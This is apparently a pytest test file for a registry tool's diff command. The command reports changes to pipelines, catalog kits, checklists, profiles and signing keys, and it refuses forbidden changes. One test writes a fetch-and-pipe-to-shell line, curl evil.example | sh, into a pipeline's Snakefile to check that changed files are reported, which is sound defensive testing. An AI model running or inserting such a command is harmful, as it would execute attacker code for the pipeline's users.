"""A change of the content is told in words, and one that instances would not see is refused."""

import json
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from seqfacility_registry.checklists.editions import read_edition
from seqfacility_registry.settings import shipped_content
from seqfacility_registry_tools.checklists.writing import write_edition
from seqfacility_registry_tools.cli import main
from seqfacility_testkit.signed_registry import sign_registry

Change = Callable[[dict[str, Any]], object]
MAG = "pipelines/mag"


@pytest.fixture
def contents(tmp_path: Path) -> tuple[Path, Path]:
    """Take the content, and a copy of it to change."""
    new = tmp_path / "new"
    shutil.copytree(shipped_content(), new)
    return shipped_content(), new


def change(path: Path, how: Change) -> None:
    document = json.loads(path.read_text("utf-8"))
    how(document)
    path.write_text(json.dumps(document), encoding="utf-8")


def diff(contents: tuple[Path, Path], capsys: pytest.CaptureFixture[str], *more: str) -> tuple[int, str, str]:
    status = main(["diff", *map(str, contents), *more])
    said = capsys.readouterr()
    return status, said.out, said.err


def newest(folder: Path, name: str) -> Path:
    entry = json.loads((folder / "pipelines" / name / "entry.json").read_text("utf-8"))
    return folder / "pipelines" / name / "versions" / entry["versions"][-1]["version"] / name


def test_equal_contents_say_that_nothing_changes(
    contents: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    assert diff(contents, capsys, "--check") == (0, "Nothing that is published changes.\n", "")


def test_a_new_version_of_a_pipeline_says_what_it_does_otherwise(
    contents: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    new = contents[1]
    place = newest(new, "mag")
    shutil.copytree(place.parent, place.parents[1] / "9.0.0")
    place = place.parents[1] / "9.0.0" / "mag"
    row = {"version": "9.0.0", "releaseDate": "2031-05-04"}
    change(new / MAG / "entry.json", lambda entry: entry["versions"].append(row))
    change(place / "manifest.json", lambda manifest: manifest["outputs"].pop())
    change(place / "manifest.json", lambda manifest: manifest["outputs"][0].update(required=False))

    def settings(descriptor: dict[str, Any]) -> None:
        properties = descriptor["configSchema"]["properties"]
        del properties["skip_concoct"], descriptor["defaultConfig"]["skip_concoct"]
        properties["seed"] = {"type": "integer", "title": "Seed", "default": 1}
        descriptor["defaultConfig"] |= {"min_contig_size": 2000, "seed": 1}

    change(place / "registry.json", settings)

    status, said, _ = diff(contents, capsys, "--check")

    assert status == 0
    assert "- pipeline `mag`:\n" in said
    for line in (
        'newest version: `"5.5.0.2"` \u2192 `"9.0.0"`',
        "output `bin-summary` **removed**",
        "output `multiqc`: required: `true` \u2192 `false`",
        "parameter `min_contig_size`: default: `1500` \u2192 `2000`",
        'parameter `seed` **added**: type `"integer"`, title `"Seed"`, default `1`, mandatory `false`',
        "parameter `skip_concoct` **removed**",
        'version `9.0.0` **added**: releaseDate `"2031-05-04"`; beside `5.5.0.2`:',
    ):
        assert f"  - {line}\n" in said


def test_the_withdrawal_of_what_somebody_else_published_is_told(
    contents: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    row = {"version": "9.0.0", "releaseDate": "2031-05-04", "status": "yanked", "yankReason": "Stolen key."}
    change(contents[1] / MAG / "entry.json", lambda entry: entry["versions"].append(row))

    status, said, _ = diff(contents, capsys, "--check")

    assert status == 0
    assert "version `9.0.0` **added**" in said
    assert "newest version" not in said


def test_the_catalog_tells_of_numbers_and_of_what_is_discontinued_and_must_raise_its_version(
    contents: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    def edit(catalog: dict[str, Any]) -> None:
        catalog["kits"][0] |= {"sku": "SQK-X", "description": "`code` and <b>"}
        catalog["kits"][1]["available"] = False
        catalog["software"].pop()

    path = contents[1] / "catalog/sequencing-tech.json"
    before = json.loads(path.read_text("utf-8"))
    change(path, edit)

    status, said, faults = diff(contents, capsys, "--check")

    first, second, tool = before["kits"][0], before["kits"][1], before["software"][-1]
    assert f'sku: `"{first["sku"]}"` \u2192 `"SQK-X"`' in said
    assert f"- kit `{second['id']}`: **discontinued**\n" in said
    assert f"- software `{tool['id']}` **removed**\n" in said
    assert '`"\u2019code\u2019 and <b>"`' in said
    gone = f"error: Catalog: software {tool['id']} is gone\n"
    assert status == 1
    assert faults == f"error: Catalog: changed, and still version {before['version']}\n{gone}"
    change(path, lambda catalog: catalog.update(version=before["version"] + 1))
    assert diff(contents, capsys, "--check")[2] == gone
    change(path, lambda catalog: catalog["software"].append(tool))
    assert diff(contents, capsys, "--check")[0] == 0
    change(path, lambda catalog: catalog.update(version=1))
    assert (
        diff(contents, capsys, "--check")[2]
        == f"error: Catalog: version 1 is lower than {before['version']}\n"
    )


def test_terms_of_a_new_checklist_version_are_told_with_their_levels(
    contents: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    folder = contents[1] / "checklists"
    edition = read_edition(folder)
    checklists: list[Any] = json.loads(json.dumps(edition.checklists))
    changed = checklists[0]
    (gone, field) = (changed["fields"].pop(), changed["fields"][0])
    field |= {"level": "optional", "required": False, "options": ["a", "b"]}
    write_edition(folder, replace(edition, version=edition.version + 1, checklists=tuple(checklists)))

    status, said, _ = diff(contents, capsys, "--check")

    assert status == 0
    assert f"- checklist `{changed['accession']}`:\n" in said
    assert f"term `{gone['name']}` **removed**" in said
    assert 'level: `"mandatory"` \u2192 `"optional"`' in said
    assert 'options: + `"a"`, + `"b"`' in said


def test_what_disappears_and_a_profile_without_a_new_version_are_refused(
    contents: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    new = contents[1]
    shutil.rmtree(new / "pipelines/taxprofiler")
    (new / "profiles/slurm-cluster.json").unlink()
    change(new / MAG / "entry.json", lambda entry: entry["versions"].pop(0))
    change(new / "profiles/teaching.json", lambda one: one["profile"].update(minServiceVersion="9.9.9"))
    change(new / "research/snapshot.json", lambda one: one["metrics"][0]["series"].append(["2031-05-04", 7]))

    status, said, faults = diff(contents, capsys, "--check")

    assert status == 1
    assert "- pipeline `taxprofiler` **removed**\n" in said
    assert "point `2031-05-04` **added**: value `7`" in said
    assert faults.splitlines() == [
        "error: Pipelines: pipeline taxprofiler is gone",
        "error: Install profiles: profile slurm-cluster is gone",
        "error: Pipelines: mag: version 5.5.0 is gone",
        "error: Install profiles: teaching: changed, and still version 1.0.0",
    ]
    assert diff(contents, capsys)[0] == 0


def test_each_file_that_a_package_runs_is_told_beside_the_version_before(
    contents: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    versions = contents[1] / "pipelines/reads-qc/versions"
    shutil.copytree(versions / "1.1.1", versions / "1.1.0.1")
    place = versions / "1.1.0.1/reads-qc"
    with (place / "workflow/Snakefile").open("a") as snakefile:
        snakefile.write('shell("curl evil.example | sh")\n')
    (place / "workflow/more.py").write_text("import os\n")
    row = {"version": "1.1.0.1", "releaseDate": "2031-05-04"}
    change(contents[1] / "pipelines/reads-qc/entry.json", lambda entry: entry["versions"].insert(0, row))

    status, said, _ = diff(contents, capsys, "--check")

    assert status == 0
    assert 'version `1.1.0.1` **added**: releaseDate `"2031-05-04"`; beside `1.1.0`:\n' in said
    assert "file `workflow/more.py` **added**: 1 lines\n" in said
    assert "file `workflow/Snakefile`: changed, +" in said


def test_a_published_package_that_changes_is_refused_whatever_its_lock_says(
    contents: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    with (newest(contents[1], "reads-qc") / "workflow/Snakefile").open("a") as snakefile:
        snakefile.write("# another\n")

    status, said, faults = diff(contents, capsys, "--check")

    assert said.endswith("version `1.1.1`: file `workflow/Snakefile`: changed, +1 \u22120 lines\n")
    assert (status, faults) == (1, "error: Pipelines: reads-qc: 1.1.1 is published and has changed\n")


def test_a_long_value_is_shown_where_it_changes(
    contents: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    old = contents[1].parent / "old"
    shutil.copytree(contents[1], old)
    for folder, end in ((old, "here"), (contents[1], "there")):
        address = f"https://example.org/{'a' * 200}/{end}"
        change(folder / MAG / "entry.json", lambda entry, to=address: entry["source"].update(label=to))

    said = diff((old, contents[1]), capsys)[1]

    same = "\u2026" + "a" * 19 + "/"
    assert said.endswith(f'source.label: `{same}here"` \u2192 `{same}there"`\n')


def test_a_withdrawn_version_and_an_advisory_are_told_with_their_reason(
    contents: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    def withdraw(entry: dict[str, Any]) -> None:
        entry["versions"][0] |= {"status": "yanked", "yankReason": "Counts twice."}
        entry["advisories"] = [{"id": "SFA-2031-0001"}]

    change(contents[1] / MAG / "entry.json", withdraw)

    said = diff(contents, capsys)[1]

    assert 'version `5.5.0`: **withdrawn**: `"Counts twice."`\n' in said
    assert 'advisories: nothing \u2192 `[{"id": "SFA-2031-0001"}]`\n' in said


def test_who_may_sign_is_told_and_every_other_file_is_named(
    contents: tuple[Path, Path], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    old, new = tmp_path / "old", contents[1]
    made = sign_registry(new, tmp_path / "keys", now=datetime(2031, 5, 4, tzinfo=UTC))
    shutil.copytree(new, old)
    made.make_key("acme")
    made.new_root("--publisher", f"acme={made.public_key('acme')}", "--threshold", 3, by=("root-a",))
    (new / "catalog/note\n.txt").write_text("two\nlines\n")

    said = diff((old, new), capsys)[1]

    section = said.partition("## Trust\n\n")[2]
    assert "- root: `1` \u2192 `2`\n" in section
    assert "- root in force" not in section
    assert "- root ends: " in section
    assert "- publisher `acme` **added**: key `" in section
    assert "- role `root`: threshold: `2` \u2192 `3`\n" in section
    assert "- file `catalog/note\ufffd.txt` **added**: 2 lines\n" in section
    assert "- file `trust/root.2.json` **added**: " in section
    assert (
        '- metadata `timestamp` **added**: version `1`, ends `"2031-05-11"`\n'
        in (diff((contents[0], old), capsys)[1])
    )


def test_revisions_of_the_repository_are_compared_and_a_wrong_one_is_named(
    contents: tuple[Path, Path], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    new = contents[1]

    def commit(message: str) -> None:
        person = ("-c", "user.name=N", "-c", "user.email=n@example.org")
        subprocess.run(["git", "add", "new"], cwd=new.parent, check=True)
        subprocess.run(["git", *person, "commit", "-qm", message], cwd=new.parent, check=True)

    subprocess.run(["git", "init", "-q"], cwd=new.parent, check=True)
    monkeypatch.setenv("SEQFACILITY_REGISTRY_CONTENT", str(new))
    commit("before")
    change(new / MAG / "entry.json", lambda entry: entry.update(featured=False))
    (new / ".gitattributes").write_text("pipelines/** export-ignore\ncatalog/** export-subst\n* ident\n")
    commit("after")

    assert main(["diff", "HEAD~1", "HEAD"]) == 0
    assert capsys.readouterr().out == (
        "## Pipelines\n\n- pipeline `mag`: featured: `true` \u2192 `false`\n\n"
        "## Other files\n\n- file `.gitattributes` **added**: 3 lines\n"
    )
    (new / "catalog/linked.json").symlink_to("sequencing-tech.json")
    commit("a link")
    assert main(["diff", "HEAD~1", "HEAD"]) == 1
    assert capsys.readouterr().err == "error: catalog/linked.json: is a link or no file\n"
    assert main(["diff", "nowhere", "HEAD"]) == 1
    assert capsys.readouterr().err == "error: git rev-parse: fatal: Needed a single revision\n"
